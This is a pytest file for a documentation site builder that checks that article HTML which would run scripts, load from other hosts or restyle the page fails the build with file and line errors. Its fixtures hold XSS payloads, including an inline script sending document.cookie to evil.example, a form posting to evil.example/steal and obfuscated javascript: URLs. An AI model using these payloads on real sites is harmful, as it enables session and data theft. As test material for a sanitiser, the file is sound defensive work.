"""What an article's HTML may hold (issue 21.4): nothing that runs, loads from elsewhere or restyles the page, but the
video players of the hosts extra.lanterne.embeds names; refused with file:line, in the source and in the rendered page."""

from __future__ import annotations

import pytest
from conftest import load_content

from lanterne.content import raw_html

HEAD = "---\ntitle: Piège\nauthor: sophie\nupdated: 2024-09-13\n---\n\n"  # the body starts on line 7
EMBEDS = {"embeds": ["https://www.youtube-nocookie.com", "https://player.vimeo.com"]}
EXPECTED = raw_html.EXPECTED
PLAIN = "expected Markdown, or HTML without event handlers and style attributes"
LINK = "expected an https://, mailto: or relative link"
ELEMENT = "cannot be in an article: it would run code, load from elsewhere or restyle the page"
# The attack of the issue: a script from another host, a form that posts there, an inline script.
ATTACK = (
    'Texte.\n\n<script src="https://evil.example/x.js"></script>\n\n'
    '<form action="https://evil.example/steal"><input name="iban"></form>\n\n'
    '<script>fetch("https://evil.example/?" + document.cookie)</script>\n'
)


def _problems(body: str, extra: dict | None = None) -> list[str]:
    """The problems of factures/piege.md with this body; the article must be left out whenever there is one."""
    build = load_content({"factures/piege.md": HEAD + body}, extra=extra)
    assert (("factures/piege", "fr") in build.centre.articles) == (not build.problems)
    return [str(problem) for problem in build.problems]


def test_the_attack_of_the_issue_is_three_errors_with_their_lines():
    assert _problems(ATTACK) == [
        f"docs/factures/piege.md:9: html: <script> {ELEMENT}; {EXPECTED}",
        f"docs/factures/piege.md:11: html: <form> {ELEMENT}; {EXPECTED}",
        f"docs/factures/piege.md:13: html: <script> {ELEMENT}; {EXPECTED}",
    ]


# Columns: the article's body (from line 7), the one error expected without "docs/factures/piege.md:".
CASES = [
    pytest.param(
        '<iframe src="https://evil.example/x"></iframe>\n',
        "7: html: <iframe src='https://evil.example/x'> is not from an origin "
        f"extra.lanterne.embeds lists (listed: https://player.vimeo.com, https://www.youtube-nocookie.com); {EXPECTED}",
        id="iframe",
    ),
    pytest.param(
        '<iframe src="https://www.youtube-nocookie.com@evil.example/x"></iframe>\n',
        "7: html: <iframe src='https://www.youtube-nocookie.com@evil.example/x'> is not from an origin extra.lanterne.embeds lists "
        f"(listed: https://player.vimeo.com, https://www.youtube-nocookie.com); {EXPECTED}",
        id="iframe-userinfo",
    ),
    pytest.param(
        '<iframe src="https://player.vimeo.com/video/1" srcdoc="&lt;script&gt;"></iframe>\n',
        "7: html: <iframe> from https://player.vimeo.com has attributes a player does not need (srcdoc); expected only allow, "
        "allowfullscreen, frameborder, height, loading, referrerpolicy, src, title, width",
        id="iframe-srcdoc",
    ),
    *(
        pytest.param(f'Texte.\n\n<{tag} data="x"></{tag}>\n', f"9: html: <{tag}> {ELEMENT}; {EXPECTED}", id=tag)
        for tag in ("object", "embed", "style", "link", "meta", "base", "noscript")
    ),
    pytest.param(
        '<p><img src="x.png" onerror="alert(1)"></p>\n',
        f"7: html: the onerror attribute of <img> would run code; {PLAIN}",
        id="on-attribute",
    ),
    pytest.param(
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>\n',
        f"7: html: <animate> {ELEMENT}; {EXPECTED}",
        id="svg-animate",
    ),
    pytest.param(
        '<svg><a onclick="alert(1)">x</a></svg>\n', f"7: html: the onclick attribute of <a> would run code; {PLAIN}", id="svg-onclick"
    ),
    pytest.param(
        '<p style="position:fixed;inset:0">x</p>\n',
        f"7: html: the style attribute of <p> is not allowed (the Content-Security-Policy allows no author styles); {PLAIN}",
        id="style-attribute",
    ),
    pytest.param(
        '<a href="jav&#x09;ascript:alert(1)">x</a>\n',
        f"7: html: <a href='jav\\tascript:alert(1)'> is a javascript: URL, which would run code; {LINK}",
        id="javascript-entities",
    ),
    pytest.param(
        "[Payer](javascript:alert(1))\n",
        f"7: html: the link 'javascript:alert(1' is a javascript: URL, which would run code; {LINK}",
        id="markdown-link",
    ),
    pytest.param(
        "Voir [ici][x].\n\n[x]: JavaScript:alert(1)\n",
        f"9: html: the link 'JavaScript:alert(1)' is a javascript: URL, which would run code; {LINK}",
        id="reference",
    ),
    pytest.param(
        "[x](data:text/html,<b>x</b>)\n",
        f"7: html: the link 'data:text/html,<b' is a data: URL, which would run code; {LINK}",
        id="data-link",
    ),
    pytest.param(
        'Un paragraphe.\n{: onclick="alert(1)" }\n',
        f"8: html: the onclick attribute of an attribute list would run code; {PLAIN}",
        id="attr-list",
    ),
]


@pytest.mark.parametrize(("body", "message"), CASES)
def test_what_would_run_or_load_is_an_error_with_its_line(body, message):
    assert _problems(body, EMBEDS) == [f"docs/factures/piege.md:{message}"]


def test_without_the_setting_no_iframe_is_allowed():
    assert _problems('<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>\n') == [
        f"docs/factures/piege.md:7: html: <iframe src='https://www.youtube-nocookie.com/embed/x'> is not from an origin "
        f"extra.lanterne.embeds lists (listed: none); {EXPECTED}"
    ]


def test_players_of_the_listed_hosts_images_and_html_shown_as_code_stay_allowed():
    body = (
        '<iframe src="https://www.youtube-nocookie.com/embed/x" title="Vidéo" width="560" height="315" allowfullscreen></iframe>\n\n'
        '![Capture](data:image/png;base64,iVBORw0KGgo=) <img src="capture.png" alt=""> <kbd>Ctrl</kbd>\n\n'
        'Write `<script src="widget.js"></script>` in your page, or:\n\n'
        '```html\n<script src="https://aide.example/assets/lanterne-widget.js"></script>\n<form action="/x"></form>\n```\n\n'
        '!!! tip "Dans un encadré"\n    ~~~~\n    <iframe src="https://evil.example/"></iframe>\n    ~~~~\n\n'
        "[Aide](https://aide.example/) [écrire](mailto:support@example.com) [x](../envoyer/)\n"
    )
    assert _problems(body, EMBEDS) == []


def test_the_embeds_setting_takes_https_origins_only():
    from lanterne import settings

    with pytest.raises(settings.SettingsError) as caught:
        settings.parse({"embeds": ["http://www.youtube.com", "https://player.vimeo.com/video"]}, site_url=None, theme_language="fr")
    assert caught.value.problems == [
        "mkdocs.yml: extra.lanterne.embeds: item 1 'http://www.youtube.com' is not an https origin; expected scheme and host only, "
        "such as 'https://www.youtube-nocookie.com'",
        "mkdocs.yml: extra.lanterne.embeds: item 2 'https://player.vimeo.com/video' is not an https origin; expected scheme and host only, "
        "such as 'https://www.youtube-nocookie.com'",
    ]


# Python-Markdown reads \` as a backtick, not as a code span: what the source check takes for code is raw HTML.
SLIPS_PAST_THE_SOURCE = "Texte \\`<script>alert('ruse')</script>\\` fin.\n"


def test_the_attack_fails_the_build_and_nothing_of_it_is_published_even_what_only_the_rendered_page_shows(make_site):
    built = make_site({"factures/piege.md": HEAD + ATTACK, "factures/ruse.md": HEAD.replace("Piège", "Ruse") + SLIPS_PAST_THE_SOURCE})
    assert not built.ok
    errors = built.errors()
    assert f"docs/factures/piege.md:9: html: <script> {ELEMENT}; {EXPECTED}" in errors
    assert f"docs/factures/ruse.md:7: html: in the rendered page: <script> {ELEMENT}; {EXPECTED}" in errors
    published = [p.read_text(encoding="utf-8", errors="replace") for p in built.site.rglob("*") if p.suffix in (".html", ".json", ".xml")]
    assert not any("evil.example" in text or "ruse')" in text for text in published)
    assert built.html("factures/ruse/").select(".lt-article__body script") == []
